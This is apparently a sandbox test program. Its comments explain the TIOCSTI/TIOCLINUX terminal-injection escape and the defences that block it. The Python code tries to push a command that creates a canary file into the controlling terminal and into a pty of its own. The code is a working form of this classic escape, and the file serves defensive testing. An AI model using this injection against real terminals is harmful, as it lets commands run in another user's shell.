# TIOCSTI: pushes characters into the input queue of a terminal, as if typed — if the sandbox shared the server's
# controlling terminal, the program could type commands into the server's shell after it exits (a classic escape
# from su and sandboxes). TIOCLINUX does the same on a virtual console (and can read its screen).
# It tries its stdio and /dev/tty (the command it types would create a canary file on the host, path on stdin),
# then a terminal of its own: it opens a pty pair, makes the pty its controlling terminal in a new session, where
# the kernel would let it inject — only the seccomp filter stands in the way there.
# Stopped by: stdio being pipes, not terminals; a new session (setsid) with no controlling terminal; the seccomp
# filter denying the TIOCSTI and TIOCLINUX ioctls outright (EPERM, where a pty alone would answer ENOTTY).
import fcntl, os, sys, termios

TIOCLINUX = 0x541C

canary = sys.stdin.readline().strip()
command = f"touch {canary}\n"
fds = [0, 1, 2]
try:
    fds.append(os.open("/dev/tty", os.O_RDWR))
except OSError as e:
    print("no /dev/tty", type(e).__name__)
for fd in fds:
    try:
        for ch in command:
            fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
        print("INJECTED", fd)
    except OSError as e:
        print("denied", fd, os.strerror(e.errno))
sys.stdout.flush()

master, terminal = os.openpty()
pid = os.fork()
if pid == 0:
    os.setsid()
    fcntl.ioctl(terminal, termios.TIOCSCTTY, 0)
    for name, request, argument in (("TIOCSTI", termios.TIOCSTI, b"x"), ("TIOCLINUX", TIOCLINUX, bytes([2, 0, 0, 0]))):
        try:
            fcntl.ioctl(terminal, request, argument)
            print("INJECTED pty", name, flush=True)
        except OSError as e:
            print("pty", name, os.strerror(e.errno), flush=True)
    os._exit(0)
os.waitpid(pid, 0)
